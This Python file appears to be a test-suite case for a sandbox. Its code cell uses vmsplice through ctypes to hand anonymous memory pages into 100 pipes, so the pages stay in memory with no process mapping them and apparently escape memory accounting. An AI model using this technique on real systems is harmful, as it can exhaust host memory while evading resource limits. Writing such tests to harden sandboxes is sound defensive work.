"""Gives pages away through pipes (vmsplice): each stays in memory, and no process has it mapped any more."""

from attacks import IF_ESCAPED

EXERCISE = "start-greet"
CELL = (
    r"""
import ctypes, mmap, os
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
libc = ctypes.CDLL(None)
kept, escaped = [], False
for _ in range(100):
    kept.append(os.pipe())
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    page[:] = b"x" * 4096
    piece = Piece(ctypes.addressof(ctypes.c_char.from_buffer(page)), 4096)
    escaped |= libc.vmsplice(kept[-1][1], ctypes.byref(piece), ctypes.c_ulong(1), 0) > 0
"""
    + IF_ESCAPED
)
